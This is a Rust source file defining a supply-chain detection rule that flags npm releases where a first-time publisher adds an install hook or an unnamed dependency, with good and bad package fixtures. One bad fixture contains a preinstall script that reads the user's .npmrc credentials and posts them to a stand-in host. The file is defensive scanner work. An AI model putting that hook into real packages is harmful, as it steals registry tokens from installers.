//! # An account that never published the package adds what runs by itself
//!
//! The account that published the release had published none of at least three releases before it, and the release brings
//! an install hook, or a dependency that no file names, for the first time.
//!
//! ## Why it matters
//!
//! Who steals or is given an account uses it at once, and what he adds has to run without being asked.
//!
//! ## Known benign uses
//!
//! A new maintainer who moves the package to a native build. Few documents of registries name accounts, so its noise is
//! not measured, and it weighs nothing.
//!
//! ## Bad
//!
//! ```package with packument
//! == package.json //~ 1
//! {"name": "text-rows", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}, "_npmUser": {"name": "eve"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ```package with packument
//! == package.json //~ 1
//! {"name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"plain-rows-lite": "^4.2.1"}}
//! == index.js
//! exports.rows = (text) => text.split("\n");
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "dependencies": {"plain-rows-lite": "^4.2.1"}, "main": "index.js", "_npmUser": {"name": "eve"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## Good
//!
//! ```package with packument
//! == package.json
//! {"name": "text-rows", "version": "1.3.0", "main": "index.js", "dependencies": {"text-table": "^1.0.0"}}
//! == index.js
//! exports.rows = (text) => require("text-table")(text.split("\n"));
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "dependencies": {"text-table": "^1.0.0"}, "main": "index.js", "_npmUser": {"name": "bob"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ```package with packument
//! == package.json
//! {"name": "text-rows", "version": "1.3.0", "main": "index.js", "scripts": {"install": "node-gyp-build"}}
//! == index.js
//! module.exports = require("node-gyp-build")(__dirname);
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "scripts": {"install": "node-gyp-build"}, "main": "index.js", "_npmUser": {"name": "ann"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## References
//!
//! - ua-parser-js, coa, rc (October 2021); Mastra (June 2026)

use stockade_facts::registry::Novelty;

use crate::prelude::*;

/// An account that never published the package adds what runs by itself.
pub struct HookFromNewPublisher;

impl Rule for HookFromNewPublisher {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "hook-from-new-publisher",
            title: "An account that never published the package adds what runs by itself",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1195.002",
            covers: &["maintainer-takeover", "maintainer-handover"],
            status: RuleStatus::Preview,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let news = facts.novelties();
        let Some(publisher) = news.iter().find_map(|novelty| match novelty {
            Novelty::Publisher(name) => Some(excerpt(name, 40)),
            _ => None,
        }) else {
            return;
        };
        for novelty in &news {
            let (key, what) = match novelty {
                Novelty::Hook(name) => (["scripts", name], format!("the hook `{}`", excerpt(name, 40))),
                Novelty::UnnamedDependency(name) => {
                    (["dependencies", name], format!("the dependency `{}`", excerpt(name, 80)))
                }
                Novelty::Publisher(_) => continue,
            };
            let does = format!("adds {what}, published by `{publisher}`, who published none before");
            found.in_manifest(&key, &does);
        }
    }
}
